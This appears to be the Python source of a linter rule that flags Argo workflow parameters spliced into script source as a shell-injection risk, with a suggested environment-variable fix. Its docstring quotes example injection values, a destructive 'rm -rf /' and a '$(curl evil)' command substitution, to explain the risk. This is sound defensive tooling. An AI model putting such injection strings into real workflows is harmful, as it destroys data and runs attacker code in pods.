"""PL601: a parameter spliced into a script's `source` (shell/code injection)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator

from plait.grammar import GrammarError, iter_refs, parse_template

from ..context import Context
from ..diagnostics import Message, Severity
from ..model import Workflow, as_str
from ..values import every_template, has_tag

_SPLICED = (("inputs", "parameters"), ("workflow", "parameters"))


@dataclass(frozen=True)
class ScriptInjection(Message):
    """What: `{{inputs.parameters.x}}` (or `<<...>>`, or `{{workflow.parameters.x}}`)
    inside `script.source`.

    Why: Argo pastes the value into the program text before it runs, so a value such as
    `"; rm -rf / #` or `$(curl evil)` becomes code: anyone who can set the parameter (a
    `-p` at submit, an event, an upstream step) runs commands in the pod. Fix: pass the
    value through the environment and read it as data.

        script:
          image: alpine
          command: [sh]
          source: echo "{{inputs.parameters.message}}"
        # fix:
          env:
          - name: MESSAGE
            value: "{{inputs.parameters.message}}"
          source: echo "$MESSAGE"
    """

    code = "PL601"
    severity = Severity.WARNING
    reference: str = ""

    def text(self) -> str:
        return f"{self.reference} is spliced into the script source (injection risk)"

    def hint_text(self) -> str | None:
        var = self.reference.rsplit(".", 1)[-1].upper().replace("-", "_")
        return f'pass it through env (name: {var}, value: "{{{{{self.reference}}}}}") and use "${var}"'


def check(wf: Workflow, ctx: Context) -> Iterator[Message]:
    for tmpl in every_template(wf):
        if tmpl.kind != "script":
            continue
        source = as_str(tmpl.body.get("source"))
        if source is None or not has_tag(source):
            continue
        try:
            parsed = parse_template(source)
        except GrammarError:
            continue                    # reported by PL11x
        for tag in parsed.tags():
            spliced = [r.path for r in iter_refs(tag) if r.path[:2] in _SPLICED]
            if spliced:
                yield ScriptInjection(source.locate(tag.start, tag.end), ".".join(spliced[0]))
